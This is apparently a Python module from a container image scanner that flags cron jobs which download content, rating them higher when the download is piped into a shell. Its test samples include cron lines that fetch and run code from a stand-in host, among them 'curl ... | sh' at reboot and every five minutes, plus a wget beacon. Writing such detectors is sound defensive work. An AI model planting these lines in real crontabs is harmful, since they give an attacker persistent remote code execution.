"""Find jobs of cron that download something."""

from collections.abc import Iterable, Iterator

from pratique.checks._downloads import FETCHERS, fetched_and_run
from pratique.checks.image.interface import Scene, raise_first, sample
from pratique.formats.shell_commands import commands
from pratique.model.errors import FormatError
from pratique.model.finding import Confidence
from pratique.model.severity import Severity
from pratique.model.sighting import Place, Sighting
from pratique.model.units import Patterns

NAME = "download-in-cron"
TITLE = "a job of cron downloads something"
SEVERITY = Severity.MEDIUM
CONFIDENCE = Confidence.MEDIUM
ALIASES: tuple[str, ...] = ()
RULES = {
    NAME: (
        "A crontab of the image runs a download time and again. That is how a dropper comes back and "
        "how a beacon reports; honest jobs that fetch data do it too, so look at the line. It is "
        "graded high where what was fetched is run. What a program runs belongs into the image, "
        "where it can be scanned; let the orchestrator schedule jobs."
    )
}
_TABLES = ("etc/cron.d", "var/spool/cron", "var/spool/cron/crontabs", "etc/crontabs")
_SCRIPTS = tuple(f"etc/cron.{often}" for often in ("hourly", "daily", "weekly", "monthly")) + tuple(
    f"etc/periodic/{often}" for often in ("15min", "hourly", "daily", "weekly", "monthly")
)
PATTERNS = Patterns(
    paths=("etc/crontab", "etc/anacrontab"), folders=(*_TABLES, *_SCRIPTS), max_bytes=256 << 10
)
FIRES = (
    sample((("etc/cron.d/beacon", "* * * * * root wget -qO- https://x.example/a\n"),)),
    sample((("etc/crontabs/root", "*/5 * * * * curl -s https://x.example/a | sh\n"),)),
    sample((("etc/cron.d/x", "@reboot root curl -s https://x.example/a | sh\n"),)),
    sample((("etc/cron.daily/fetch", "#!/bin/sh\ncurl -o /x https://x.example\n"),)),
)
SILENT = (
    sample((("etc/crontabs/root", "# curl\n15 * * * * run-parts /etc/periodic/hourly\n"),)),
    sample((("etc/cron.d/x", "MAILTO=curl\n@daily root logrotate /etc/curl.conf\n"),)),
)


def look(scene: Scene) -> Iterable[Sighting]:
    """Return per layer one sighting for downloads that are run, and one for the others."""
    problems: list[FormatError] = []
    found = list(_jobs(scene, problems))
    for run in (True, False):
        places = [place for place, is_run in found if is_run is run]
        yield from scene.in_files(places, severity=Severity.HIGH if run else None)
    raise_first(problems)


def _jobs(scene: Scene, problems: list[FormatError]) -> Iterator[tuple[Place, bool]]:
    tables = [path for folder in _TABLES for path in scene.files_in(folder)]
    scripts = [path for folder in _SCRIPTS for path in scene.files_in(folder)]
    for path in ("etc/crontab", "etc/anacrontab", *tables, *scripts):
        for number, line in scene.lines(path, problems):
            text = line if path in scripts else _command(line, _has_user(path))
            ran = tuple(commands(text))
            ways = tuple(fetched_and_run(ran))
            fetching = [word for one in ran for word in one.words if _name(word) in FETCHERS]
            if ways or fetching:
                note = f"{ways[0] if ways else _name(fetching[0]) + ' is run'} time and again"
                yield Place(path, note, number), bool(ways)


def _command(line: str, with_user: bool) -> str:
    """Return what a line of a crontab runs."""
    times = 1 if line.startswith("@") else 5
    parts = line.split(None, times + with_user)
    is_job = line[:1] in "*@0123456789" and len(parts) == times + with_user + 1
    return parts[-1] if is_job else ""


def _has_user(path: str) -> bool:
    """Say whether the lines of a table name a user before the command."""
    return path == "etc/crontab" or path.startswith("etc/cron.d/")


def _name(word: str) -> str:
    return word.rpartition("/")[2]
